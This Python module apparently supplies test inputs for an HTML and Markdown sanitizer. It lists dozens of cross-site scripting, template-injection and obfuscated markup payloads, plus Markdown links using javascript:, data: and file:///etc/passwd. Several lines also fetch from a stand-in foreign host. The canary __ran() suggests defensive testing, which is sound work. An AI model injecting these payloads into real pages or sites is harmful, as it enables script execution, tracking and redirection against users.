"""What attackers write: texts that would run, fetch or mislead if any page took them for more than text."""

# Calls __ran when a browser takes it for markup or code; fits into every field.
SHORT = '"><img src=x onerror=__ran()>'


def markup(evil: str) -> list[str]:
    """Texts that would run or fetch as HTML, in an attribute, a script or a template; `evil` is a foreign host."""
    return [
        SHORT,
        "<script>__ran()</script>",
        "</textarea></title></style></script><script>__ran()</script>",
        "'-__ran()-'",
        "');__ran();//",
        "<svg/onload=__ran()>",
        "<svg><script>__ran()</script><animate onbegin=__ran() attributeName=x dur=1s>",
        "<math><mtext><mglyph><style><img src=x onerror=__ran()>",
        "<details open ontoggle=__ran()>",
        "<input autofocus onfocus=__ran()>",
        '<iframe srcdoc="<script>parent.__ran()</script>"></iframe>',
        '<div x-data="{a: __ran()}" x-init="__ran()" x-html="\'<img src=x onerror=__ran()>\'">',
        f'<div hx-get="{evil}/hx" hx-trigger="load">',
        "{{7*7}} {{constructor.constructor('__ran()')()}} {% debug %} ${__ran()} #{__ran()} <%= __ran() %>",
        f'<img src="{evil}/pixel.gif" srcset="{evil}/set.gif 2x">',
        f'<link rel=stylesheet href="{evil}/sheet.css">',
        f'<style>@import "{evil}/import.css"; *{{background:url({evil}/b)}}</style>',
        f'<base href="{evil}/"><meta http-equiv=refresh content="0;url={evil}/refresh">',
        f'<form action="{evil}/form"><button autofocus onfocus=__ran() formaction="javascript:__ran()">x</form>',
        f'<object data="{evil}/object"></object><embed src="{evil}/embed">',
        f'<video poster="{evil}/poster" src=x onerror=__ran()>',
        "&lt;img src=x onerror=__ran()&gt; &#60;img src=x onerror=__ran()&#62;",
        "\\u003cimg src=x onerror=__ran()\\u003e \\x3cimg src=x onerror=__ran()\\x3e %3Cimg src=x onerror=__ran()%3E",
        "<!--><img src=x onerror=__ran()>--> <![CDATA[><img src=x onerror=__ran()>]]>",
        "\N{FULLWIDTH LESS-THAN SIGN}img src=x onerror=__ran()\N{FULLWIDTH GREATER-THAN SIGN}",
        "\N{RIGHT-TO-LEFT OVERRIDE}()nar__\N{ZERO WIDTH SPACE} <\N{ZERO WIDTH SPACE}img src=x onerror=__ran()>",
        "<img src=x onerror=__ran()//",
    ]


def markdown(evil: str) -> list[str]:
    """Texts that would run, fetch or mislead as Markdown."""
    return [
        "[a](javascript:__ran()) [b](javascript:__ran`1`) [c](JaVaScRiPt:__ran`1`) [d](java\tscript:__ran`1`)",
        "[e](&#106;avascript:__ran`1`) [f](\N{ZERO WIDTH SPACE}javascript:__ran`1`) [g](vbscript:__ran`1`)",
        "[h](data:text/html,<script>__ran`1`</script>) [i](data:text/html;base64,PHNjcmlwdD4=) [j](blob:https://x/1)",
        "[k](file:///etc/passwd) [l](//evil.example) [m](https:evil.example) [n](/admin/logout/) [o](about:blank)",
        f"![p]({evil}/image.png) [![q]({evil}/nested.png)](javascript:__ran`1`) ![r][s]",
        f"[s]: {evil}/reference.png\n[t]: javascript:__ran`1` 'x'\n[u][t]",
        "<javascript:__ran`1`> <https://evil.example/auto>",
        '**<b onclick="__ran()">negrito** `<img src=x onerror=__ran()>` ~~<i onmouseover=__ran()>~~',
        "- <img src=x onerror=__ran()>\n- [v](javascript:__ran`1`)",
        "1. <svg/onload=__ran()>\n> <img src=x onerror=__ran()>",
        '[w](https://ok.example/"onmouseover="__ran`1`) [x](https://ok.example/?a=<script>__ran`1`</script>)',
        "```html\n<script>__ran()</script>\n```\n| a | <img src=x onerror=__ran()> |\n|---|---|",
    ]


def everything(evil: str) -> str:
    """All of it, a line each."""
    return "\n".join([*markup(evil), *markdown(evil)])
